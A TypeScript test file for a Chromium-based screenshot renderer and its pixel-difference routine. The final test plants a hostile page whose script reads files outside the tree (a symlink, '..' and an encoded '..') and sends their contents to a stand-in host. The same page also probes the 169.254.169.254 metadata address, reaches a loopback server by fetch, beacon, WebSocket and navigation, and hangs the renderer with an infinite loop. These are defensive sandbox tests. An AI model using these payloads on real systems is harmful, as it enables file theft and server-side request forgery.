/**
 * The screenshot renderer and its pixel-difference figure against Debian's real Chromium: a
 * changed page's base and output differ exactly where the page changed, an unchanged page
 * renders the same pixels twice, a page's images and styles load through its relative links.
 * Then the attacker's page: it reaches for the network (fetch, images, a beacon, a WebSocket,
 * an iframe, a navigation, a loopback server standing in for the cluster), for a file outside
 * the tree (through a link and through `..`), and hangs the renderer; every attempt is refused
 * and reported, the loopback server sees nothing, and the next page renders.
 */
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect } from 'chai';
import { PNG } from 'pngjs';
import { pixelDiff } from '../../screenshot/pixel-diff.js';
import { Renderer, SITE_ORIGIN } from '../../screenshot/render.js';

const SECRET = 'SECRET-outside-the-tree';

/** A page with a box at a known place: the change recolours and moves nothing else. */
const boxPage = (colour: string) => `<!doctype html><html><head><link rel="stylesheet" href="css/site.css"></head>
<body><h1>Harbor Lane Bakery</h1><p>Fresh bread every morning.</p>
<div id="notice" style="position:absolute; left:100px; top:300px; width:300px; height:100px; background:${colour}"></div>
<img src="img/logo.svg" style="position:absolute; left:600px; top:300px; width:50px; height:50px">
</body></html>`;

async function writeTree(root: string, files: Record<string, string>): Promise<void> {
  for (const [path, body] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), body);
  }
}

function pixelAt(png: Buffer, x: number, y: number): number[] {
  const img = PNG.sync.read(png);
  const i = (y * img.width + x) * 4;
  return [...img.data.subarray(i, i + 3)];
}

describe('screenshots: the renderer in real Chromium, and the pixel difference', function () {
  this.timeout(120_000);
  let dir: string;
  let renderer: Renderer;
  let loopback: Server;
  let loopbackHits: string[];
  let loopbackUrl: string;

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'pw-screenshot-'));
    const common = {
      'css/site.css': 'body { margin: 0; font-family: sans-serif; background: #fff } h1 { color: #222 }',
      'img/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><rect width="50" height="50" fill="#00ff00"/></svg>',
    };
    await writeTree(join(dir, 'base'), { ...common, 'index.html': boxPage('#ff0000') });
    await writeTree(join(dir, 'output'), { ...common, 'index.html': boxPage('#0000ff') });
    loopbackHits = [];
    loopback = createServer((req, res) => {
      loopbackHits.push(req.url ?? '');
      res.end('ok');
    });
    await new Promise<void>((r) => loopback.listen(0, '127.0.0.1', r));
    loopbackUrl = `http://127.0.0.1:${(loopback.address() as { port: number }).port}`;
    renderer = await Renderer.start({ timeoutMs: 5000 });
  });

  after(async () => {
    await renderer?.close();
    await new Promise((r) => loopback?.close(r));
    await rm(dir, { recursive: true, force: true });
  });

  it("renders a page with its stylesheet and image (relative links), the output's change where it is", async () => {
    const [base] = await renderer.render(join(dir, 'base'), ['index.html']);
    const [output] = await renderer.render(join(dir, 'output'), ['/']);
    expect(base?.error).to.equal(undefined);
    expect(output?.error).to.equal(undefined);
    expect(pixelAt(base!.png!, 250, 350), 'the red box').to.deep.equal([255, 0, 0]);
    expect(pixelAt(output!.png!, 250, 350), 'the blue box').to.deep.equal([0, 0, 255]);
    expect(pixelAt(base!.png!, 625, 325), 'the image, loaded through img/logo.svg').to.deep.equal([0, 255, 0]);
    expect(base!.blocked).to.deep.equal([]);

    const d = pixelDiff(base!.png!, output!.png!);
    expect(d.box, 'exactly the box').to.deep.equal({ x: 100, y: 300, width: 300, height: 100 });
    expect(d.differentPixels).to.equal(300 * 100);
    expect(d.ratio).to.be.closeTo((300 * 100) / (d.width * d.height), 1e-9);
    expect(d.width).to.equal(1280);
    // the figure's own image: red where the page changed, transparent elsewhere
    const mask = PNG.sync.read(d.png);
    expect([...mask.data.subarray((350 * mask.width + 250) * 4, (350 * mask.width + 250) * 4 + 4)]).to.deep.equal([255, 0, 0, 255]);
    expect(mask.data[(10 * mask.width + 10) * 4 + 3]).to.equal(0);
  });

  it('renders an unchanged page to the same pixels twice (nothing differs)', async () => {
    const [a] = await renderer.render(join(dir, 'base'), ['index.html']);
    const [b] = await renderer.render(join(dir, 'base'), ['index.html']);
    const d = pixelDiff(a!.png!, b!.png!);
    expect([d.differentPixels, d.box]).to.deep.equal([0, null]);
  });

  it('counts what only the taller screenshot has as different, whatever its colour', async () => {
    const white = (h: number) => {
      const img = new PNG({ width: 20, height: h });
      img.data.fill(255);
      return PNG.sync.write(img);
    };
    const d = pixelDiff(white(10), white(15));
    expect([d.width, d.height, d.differentPixels]).to.deep.equal([20, 15, 20 * 5]);
    expect(d.box).to.deep.equal({ x: 0, y: 10, width: 20, height: 5 });
  });

  it('refuses a hostile page everything outside its tree, reports each attempt, and the next page renders', async () => {
    const evil = join(dir, 'evil');
    await writeFile(join(dir, 'outside.txt'), SECRET);
    await writeTree(evil, {
      // what it read goes out as a request the renderer refuses and reports: that is the test's window into the page
      'index.html': `<!doctype html><html><body><h1>hello</h1>
<iframe src="https://attacker.invalid/frame"></iframe>
<link rel="prefetch" href="${loopbackUrl}/prefetch">
<script>
const read = (path) => { const x = new XMLHttpRequest(); x.open('GET', path, false); x.send(); return x.status + ':' + x.responseText; };
const report = (name, value) => { const i = new Image(); i.src = 'https://report.invalid/' + name + '?v=' + encodeURIComponent(value); document.body.appendChild(i); };
report('link', read('link.txt'));
report('dotdot', read('../outside.txt'));
report('encoded', read('%2e%2e/outside.txt'));
fetch('${loopbackUrl}/fetch').catch(() => {});
navigator.sendBeacon('${loopbackUrl}/beacon', 'x');
try { new WebSocket('${loopbackUrl.replace('http', 'ws')}/ws'); } catch (e) {}
const img = new Image(); img.src = 'http://169.254.169.254/latest/meta-data/'; document.body.appendChild(img);
</script></body></html>`,
      'hang.html': '<!doctype html><script>for (;;) {}</script>',
      'nav.html': `<!doctype html><script>location.href = '${loopbackUrl}/navigate';</script>`,
    });
    await symlink(join(dir, 'outside.txt'), join(evil, 'link.txt'));

    const [page, hang, after, nav] = await renderer.render(evil, ['index.html', 'hang.html', 'index.html', 'nav.html']);
    expect(page?.error).to.equal(undefined);
    expect(page?.png).to.be.instanceOf(Buffer);
    const reported = (name: string) => {
      const url = page!.blocked.find((u) => u.startsWith(`https://report.invalid/${name}?`));
      return url ? new URL(url).searchParams.get('v') : null;
    };
    expect(reported('link'), 'a link out of the tree').to.equal('404:not found');
    expect(reported('dotdot'), '..').to.equal('404:not found');
    expect(reported('encoded'), 'an encoded ..').to.equal('404:not found');
    expect(page!.blocked.join('\n')).to.not.contain(SECRET);
    expect(page!.blocked).to.include.members([
      'https://attacker.invalid/frame',
      'http://169.254.169.254/latest/meta-data/',
      `${loopbackUrl}/fetch`,
    ]);
    expect(
      page!.blocked.every((u) => !u.startsWith(SITE_ORIGIN)),
      'the tree itself is never blocked',
    ).to.equal(true);
    // and what reached the loopback server (the cluster, for a pod with egress): nothing. Chromium
    // itself keeps a public page's subresources off loopback; a navigation it lets through, and
    // only the renderer's walls stop that one (without them the server sees /navigate). A beacon
    // may go out after its page is gone: a moment for a late one to arrive.
    await new Promise((r) => setTimeout(r, 500));
    expect(nav?.blocked).to.include(`${loopbackUrl}/navigate`);
    expect(loopbackHits).to.deep.equal([]);

    expect(hang?.png).to.equal(null);
    expect(hang?.error).to.match(/Timeout/i);
    expect(after?.error, 'the renderer survives a hung page').to.equal(undefined);
    expect(after?.png).to.be.instanceOf(Buffer);
  });
});
